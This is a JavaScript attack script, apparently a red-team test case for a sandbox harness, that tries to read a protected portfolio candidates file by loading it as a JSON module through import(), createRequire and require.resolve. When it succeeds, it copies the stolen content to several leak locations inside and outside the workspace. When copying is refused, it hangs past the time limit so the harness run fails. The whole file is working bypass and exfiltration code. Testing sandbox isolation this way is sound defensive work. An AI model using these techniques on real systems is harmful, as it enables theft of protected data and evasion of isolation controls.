/* @attack {"title": "load the candidates file as a module: import() with type json, createRequire()(), require.resolve + readFile", "maxSeconds": 20} */
import fs from 'node:fs';
import path from 'node:path';
import { createRequire } from 'node:module';
import { pathToFileURL } from 'node:url';

const run = process.env.SLEEVE_RUN_DIR;
const workspace = process.cwd();
const CANDIDATES = 'data/lakehouse/portfolio_candidates.json';

/**
 * What a read got: when it is the protected content, copy it into the run dir
 * and try the places the harness checks (next to the workspace, the lakehouse,
 * the tmp marker, and the lakehouse again through the hole the read used, when
 * the attack passes one); unless that last copy landed, stay alive past
 * maxSeconds, so that the harness fails the run ("no report") even when every
 * copy is refused.
 */
async function exfiltrate(how, content, ...holes) {
  const text = typeof content === 'string' ? content : Buffer.from(content ?? '').toString('utf8');
  if (!/"AAPL"\s*,\s*"MSFT"|SECRET-/.test(text)) {
    console.log(`${how}: read ${JSON.stringify(text.slice(0, 60))}, not the protected content`);
    return;
  }
  console.log(`ESCAPED ${how}: ${text.trim()}`);
  for (const dest of [`${run}/stolen.json`, `${process.env.OUTSIDE}/leak.json`, `${workspace}/data/lakehouse/leak.json`, process.env.TMP_MARKER]) {
    try {
      fs.writeFileSync(dest, text);
    } catch (error) {
      console.log(`copy to ${dest}: ${error.code}`);
    }
  }
  // The hole the read went through, used again to write the loot into the lakehouse.
  for (const hole of holes) {
    try {
      await hole(text);
      console.log('copied into the lakehouse through the same hole');
      return;
    } catch (error) {
      console.log(`copy through the same hole: ${error.code}`);
    }
  }
  await new Promise((resolve) => setTimeout(resolve, 120_000));
  process.exit(0);
}

async function attempt(how, read) {
  try {
    await exfiltrate(how, await read());
  } catch (error) {
    console.log(`${how}: ${error.code ?? error.message}`);
  }
}

const abs = path.resolve(CANDIDATES);
// Built at run time so the bundler leaves the specifiers alone.
const spec = [path.dirname(abs), 'portfolio_candidates.json'].join('/');
await attempt('import() json', async () => JSON.stringify((await import(pathToFileURL(spec).href, { with: { type: 'json' } })).default));
await attempt('import() json relative spelling', async () =>
  JSON.stringify((await import(`${pathToFileURL(run).href}/../../data/lakehouse/portfolio_candidates.json`, { with: { type: 'json' } })).default),
);
const require = createRequire(pathToFileURL(`${run}/x.js`));
await attempt('createRequire json', () => JSON.stringify(require(spec)));
await attempt('createRequire relative', () => JSON.stringify(require(['..', '..', CANDIDATES].join('/'))));
await attempt('require.resolve then read', () => fs.readFileSync(require.resolve(spec)));
